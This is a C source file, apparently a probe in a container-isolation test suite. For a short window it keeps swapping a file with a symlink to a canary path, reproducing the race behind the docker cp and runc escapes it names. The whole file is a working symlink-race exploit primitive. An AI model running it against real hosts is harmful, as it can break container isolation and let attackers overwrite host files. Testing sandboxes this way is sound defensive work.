/* SPDX-License-Identifier: MIT */
/*
 * Swaps something harmless with a symbolic link, as fast as it can, while the host works with that name: whatever is
 * checked first and opened by its name afterwards is another thing by then (docker cp: CVE-2018-15664; runc's mounts:
 * CVE-2021-30465).
 */
#include "attack.h"

#include <fcntl.h>
#include <sys/stat.h>
#include <time.h>

int main(int argc, char **argv)
{
    const char *to = argc > 1 ? argv[1] : "SN_CANARY";
    int directory = argc > 2 && strcmp(argv[2], "directory") == 0;
    struct timespec now, end;
    unsigned swaps = 0;
    int fd;

    umask(0);
    if (chdir(scene("SN_BOX")) < 0)
        cannot("cannot enter the box: %s", strerror(errno));
    if (symlink(scene(to), "link") < 0)
        held_by_errno("symlink");
    if (directory) {
        if (mkdir("out", 0777) < 0)
            cannot("mkdir: %s", strerror(errno));
    } else {
        fd = open("out", O_WRONLY | O_CREAT | O_EXCL, 0666);
        if (fd < 0)
            cannot("open: %s", strerror(errno));
        close(fd);
    }
    clock_gettime(CLOCK_MONOTONIC, &end);
    end.tv_nsec += 400000000;
    do {
        /* not for all of the time in one state, whatever the scheduler does */
        if (renameat2(AT_FDCWD, "out", AT_FDCWD, "link", RENAME_EXCHANGE) < 0)
            held_by_errno("renameat2");
        if (++swaps % 64 == 0)
            usleep(500);
        clock_gettime(CLOCK_MONOTONIC, &now);
    } while ((now.tv_sec - end.tv_sec) * 1000000000L + now.tv_nsec - end.tv_nsec < 0);
    held("swapped %u times", swaps);
}
